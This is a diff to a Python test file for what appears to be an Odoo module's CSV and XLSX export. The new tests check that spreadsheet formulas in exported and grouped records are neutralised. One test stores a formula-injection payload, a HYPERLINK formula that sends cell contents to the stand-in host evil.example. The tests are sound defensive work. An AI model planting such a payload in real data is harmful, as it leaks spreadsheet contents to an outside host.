@@ -38,13 +38,14 @@ class TestExport(CcpCase, HttpCase):
         self.env.flush_all()
         self.authenticate("ccp_manager", "ccp_manager")
 
-    def export(self, kind, columns=COLUMNS):
+    def export(self, kind, columns=COLUMNS, records=None, groupby=()):
+        records = self.call if records is None else records
         parameters = {
-            "model": "ccp.call",
+            "model": records._name,
             "fields": [{"name": name, "label": name, "type": "char"} for name in columns],
-            "ids": self.call.ids,
+            "ids": records.ids,
             "domain": [],
-            "groupby": [],
+            "groupby": groupby,
             "import_compat": False,
         }
         return self.url_open(
@@ -70,6 +71,48 @@ class TestExport(CcpCase, HttpCase):
         sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
         cell = sheet["B2"]
         self.assertEqual((cell.value, cell.data_type), ("'=1+1", "s"), "no formula")
+
+    def cells(self, answer):
+        """Return value and type of all cells of a workbook that have one."""
+        self.assertEqual(answer.status_code, 200)
+        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
+        return [(cell.value, cell.data_type) for row in sheet.rows for cell in row if cell.value]
+
+    def test_titles_of_groups(self):
+        name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+        contact = self.env["res.partner"].create({"name": name})
+        self.call.write({"customer_name": name, "partner_id": contact.id, "note": "{=1+1}"})
+        self.env.flush_all()
+        columns = ("customer_name", "note", "start_date")
+        for groupby in (["customer_name"], ["partner_id"], ["result", "customer_name"]):
+            with self.subTest(groupby=groupby):
+                found = self.cells(self.export("xlsx", columns, groupby=groupby))
+                self.assertNotIn("f", [kind for _value, kind in found], "a formula")
+                self.assertIn(("'{=1+1}", "s"), found, "no formula of many cells")
+                titles = [value for value, _kind in found if "HYPERLINK" in str(value)]
+                self.assertEqual(len(titles), 2, "a title and a cell")
+
+    def test_every_model_of_ours(self):
+        """Another one's list is exported by the same route, and holds words from outside too."""
+        self.authenticate("rep", "rep")
+        self.rep.group_ids |= self.env.ref("base.group_allow_export")
+        item = self.env["ccp.call.list.item"].create(
+            {
+                "user_id": self.rep.id,
+                "res_model": "res.partner",
+                "res_id": self.partner.id,
+                "customer_name": "=1+1",
+            }
+        )
+        self.env.flush_all()
+        for kind in ("csv", "xlsx"):
+            answer = self.export(kind, ("customer_name", "state"), item)
+            if kind == "csv":
+                self.assertEqual(list(csv.reader(io.StringIO(answer.text)))[1][0], "'=1+1")
+            else:
+                self.assertIn(("'=1+1", "s"), self.cells(answer))
+        answer = self.export("xlsx", ("state",), item, ["customer_name"])
+        self.assertIn(("'=1+1 (1)", "s"), self.cells(answer))
 
     def test_secrets_are_not_offered(self):
         answer = self.url_open(
